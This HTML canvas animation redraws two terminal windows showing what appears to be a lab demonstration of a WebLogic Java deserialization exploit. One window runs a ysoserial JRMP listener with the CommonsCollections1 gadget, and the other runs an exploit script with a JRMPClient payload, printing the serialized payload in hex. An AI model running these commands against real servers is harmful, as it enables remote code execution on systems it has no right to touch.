
These frames come from a looping animation (1274 px wide and 439 px high, 8000 ms). An HTML page with a canvas:

```html
<!DOCTYPE html>
<html lang="zh">
<head>
<meta charset="utf-8">
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #1c2022; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="1274" height="439"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const LOOP = 8000, CELL = 7.9, ROW = 15.8, TOP = 55.5;
const MONO = '13.12px "DejaVu Sans Mono", "Noto Sans Mono", monospace';
const SANS = '"Noto Sans", "Noto Sans CJK SC", "Noto Sans CJK", sans-serif';
const BG = '#2e3436', FG = '#d3d7cf', GREEN = '#8ae234', BLUE = '#729fcf';
const USER = 'velmor@hostpc', FOLDER = '~/Desktop';
const MENU = ['文件(F)', '编辑(E)', '查看(V)', '搜索(S)', '终端(T)', '帮助(H)'];
const MENU_X = [8, 64, 120, 178, 234, 290];

const leftWindow = {
  x: 3, textX: 4,
  command: 'java -cp ysoserial-0.0.6-SNAPSHOT-BETA-all.jar ysoseria',
  lines: [
    "l.exploit.JRMPListener 23333 CommonsCollections1 'touch /tmp/evil'",
    '* Opening JRMP listener on 23333',
    'Have connection from /172.25.0.2:46958',
    'Reading message...',
    'Is DGC call for [[0:0:0, 1637848730], [0:0:0, 815870264], [0:0:0, -1849739843],',
    '[0:0:0, 914379903], [0:0:0, 1777718097]]',
    'Sending return with payload for obj [0:0:0, 2]',
    'Closing connection'
  ]
};
const rightWindow = {
  x: 631.5, textX: 632.5,
  command: 'python 44553.py 127.0.0.1 7001 ysoserial-0.0.6-SNAPSHOT',
  lines: [
    '-BETA-all.jar 192.168.85.133 23333 JRMPClient',
    'handshake successful',
    'send request payload successful,recv length:1691',
    'command: java -jar ysoserial-0.0.6-SNAPSHOT-BETA-all.jar JRMPClient 192.168.85.1',
    '33:23333 > payload.out',
    'payload: aced0005737d00000001001a6a6176612e726d692e72656769737472792e52656769737',
    '47279787200176a6176612e6c616e672e7265666c6563742e50726f7879e127da20cc1043cb02000',
    '14c0001687400254c6a6176612f6c616e672f7265666c6563742f496e766f636174696f6e48616e6',
    '46c65723b78707372002d6a6176612e726d692e7365727665722e52656d6f74654f626a656374496',
    'e766f636174696f6e48616e646c657200000000000000020200007872001c6a6176612e726d692e7',
    '365727665722e52656d6f74654f626a656374d361b4910c61331e03000078707737000a556e69636',
    '17374526566000e3139322e3136382e38352e31333300005b25ffffffff91bf35bd0000000000000',
    '0000000000000000078'
  ]
};

// Tracks are [start time, value...] steps; the latest started step holds.
const FOCUS = [[0, leftWindow], [2520, rightWindow]];
const LEFT_LINES = [[0, 1], [1730, 2], [6520, 3], [6640, 8]];
const RIGHT_LINES = [[0, 1], [4470, 2], [6380, 5], [6520, 13]];
// cursor: row, column
const LEFT_CURSOR = [[0, 1, 66], [1570, 2, 0], [1730, 3, 0], [6520, 4, 0], [6640, 9, 0]];
const RIGHT_CURSOR = [[0, 1, 45], [3380, 2, 0], [4470, 3, 0], [6380, 6, 0], [6520, 14, 0]];
const BLINK = [[0, 0], [450, 1], [1450, 0], [1570, 1], [2130, 0], [2520, 1], [3240, 0], [3380, 1],
  [4070, 0], [4620, 1], [5210, 0], [5790, 1], [6380, 0], [6890, 1], [7480, 0]];
const POINTER = [[0, 'hand', 414, 233], [310, 'beam', 412.5, 222], [1050, 'beam', 412.5, 226.5],
  [1570], [2130, 'beam', 669.5, 173.5], [2280, 'beam', 810, 176], [2400, 'beam', 943, 178.5],
  [2520, 'beam', 940.5, 178.5], [3380], [5640, 'beam', 917, 318], [5790]];

const at = (track, t) => track.filter(step => step[0] <= t).pop().slice(1);

function rect(x, y, w, h, color) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}

function disc(x, y, r, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.arc(x, y, r, 0, Math.PI * 2);
  ctx.fill();
}

function roundRect(x, y, w, h, radius, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.roundRect(x, y, w, h, radius);
  ctx.fill();
}

function label(text, x, y, color, style) {
  ctx.font = `${style} ${SANS}`;
  ctx.fillStyle = color;
  ctx.fillText(text, x, y);
}

// Terminal text sits on a character grid; returns the x after the last cell.
function cells(text, x, y, color = FG, bold = '') {
  ctx.font = bold + MONO;
  ctx.fillStyle = color;
  [...text].forEach((char, i) => ctx.fillText(char, x + i * CELL, y));
  return x + text.length * CELL;
}

function gradient(x1, y1, colors) {
  const g = ctx.createLinearGradient(0, 0, x1, y1);
  colors.forEach((c, i) => g.addColorStop(i / (colors.length - 1), c));
  return g;
}

function drawDesktop() {
  rect(0, 0, 1274, 439, '#23282a');
  rect(0, 0, 1274, 4, gradient(1274, 0, ['#5a8acb', '#5681c0', '#7c90b8']));
  rect(0, 0, 5, 367, gradient(0, 367, ['#5a8acb', '#7090c8', '#9a7cab', '#6a5f90', '#6b9bd8']));
  rect(0, 27, 2, 1, '#fff');
  rect(0, 317, 2, 1, '#fff');
  rect(0, 367, 5, 72, '#181614');
  rect(0, 432, 216, 7, '#1f1b1a');
  for (let i = 0; i < 36; i++) {
    rect(i * 6, 435 + i * 7 % 4, 3 + i * 5 % 4, 1, ['#443833', '#171413', '#6b645f'][i * 11 % 3]);
  }
  let x = 222;
  for (const [name, color] of [['bea1061393648233859820.tmp', BLUE], ['cookie.txt', FG],
    ['hsperfdata_root', BLUE], ['packages', BLUE], ['wlstTemproot', BLUE]]) {
    x = cells(name, x, 441, color, color === BLUE ? 'bold ' : '') + 2 * CELL;
  }
  rect(853, 432, 10, 7, '#fff');
  rect(1016, 432, 10, 7, '#fff');
}

function drawWindow(win, focused, lineCount, [row, column], blink) {
  const { x, textX } = win;
  ctx.save();
  ctx.shadowColor = focused ? 'rgba(0,0,0,.65)' : 'rgba(0,0,0,.3)';
  ctx.shadowBlur = 10;
  roundRect(x, 2, 644, 432.5, [4, 4, 0, 0], BG);
  ctx.restore();
  if (focused) rect(win === leftWindow ? 647 : 631, 4, 1, 430, '#15191a');

  ctx.textAlign = 'center';
  label(`${USER}: ${FOLDER}`, x + 322, 19, focused ? '#b9c0c8' : '#787e86', 'bold 13.2px');
  ctx.textAlign = 'left';
  const lights = focused ? ['#fdc22f', '#2ee849', '#fc4b50'] : ['#646768', '#646768', '#646768'];
  lights.forEach((color, i) => disc(x + 574 + i * 28, 15, 6, color));
  MENU.forEach((item, i) => label(item, x + MENU_X[i], 46, focused ? '#bcc2c8' : '#848a90', '13px'));

  rect(x + 633.5, 55, 10.5, 379, '#fff');
  roundRect(x + 635.5, 247, 6, 185, 3, '#b3b6b7');

  const baseline = r => Math.round(TOP + r * ROW + 12.6);
  let end = cells(USER, textX, baseline(0), GREEN, 'bold ');
  end = cells(':', end, baseline(0));
  end = cells(FOLDER, end, baseline(0), BLUE, 'bold ');
  cells('$ ' + win.command, end, baseline(0));
  win.lines.slice(0, lineCount).forEach((line, i) => cells(line, textX, baseline(i + 1)));

  const cx = Math.round(textX + column * CELL), cy = Math.floor(TOP + row * ROW);
  if (!focused) {
    ctx.strokeStyle = FG;
    ctx.lineWidth = 1;
    ctx.strokeRect(cx + .5, cy + .5, 8, 16);
  } else if (blink) {
    rect(cx, cy, 8, 16, FG);
  }
}

function drawPointer(kind, x, y) {
  if (!kind) return;
  const beam = 'M-2.5 -5.5H2.5M0 -5.5V5.5M-2.5 5.5H2.5';
  const hand = 'M-5 -8.5Q-4.5 -10 -2.5 -9L-.5 -2.5Q1 -3.5 2 -2Q3.5 -3 4.2 -1.2Q6 -1.5 6.2 1V5' +
    'Q6 8 4.5 10H-1.5Q-3 6.5 -6.5 3Q-7 .5 -4.5 1L-3 2Z';
  const path = new Path2D(kind === 'beam' ? beam : hand);
  ctx.save();
  ctx.translate(x, y);
  ctx.strokeStyle = '#111';
  ctx.lineWidth = kind === 'beam' ? 2.4 : 1.5;
  ctx.stroke(path);
  ctx.strokeStyle = ctx.fillStyle = '#fff';
  ctx.lineWidth = 1;
  if (kind === 'beam') ctx.stroke(path);
  else ctx.fill(path);
  ctx.restore();
}

function draw(now) {
  const t = now % LOOP;
  const [focus] = at(FOCUS, t), [blink] = at(BLINK, t);
  const show = win => {
    const isLeft = win === leftWindow;
    const [count] = at(isLeft ? LEFT_LINES : RIGHT_LINES, t);
    drawWindow(win, win === focus, count, at(isLeft ? LEFT_CURSOR : RIGHT_CURSOR, t), blink);
  };
  drawDesktop();
  show(focus === leftWindow ? rightWindow : leftWindow);
  show(focus);
  drawPointer(...at(POINTER, t));
  requestAnimationFrame(draw);
}
requestAnimationFrame(draw);
</script>
</body>
</html>
```
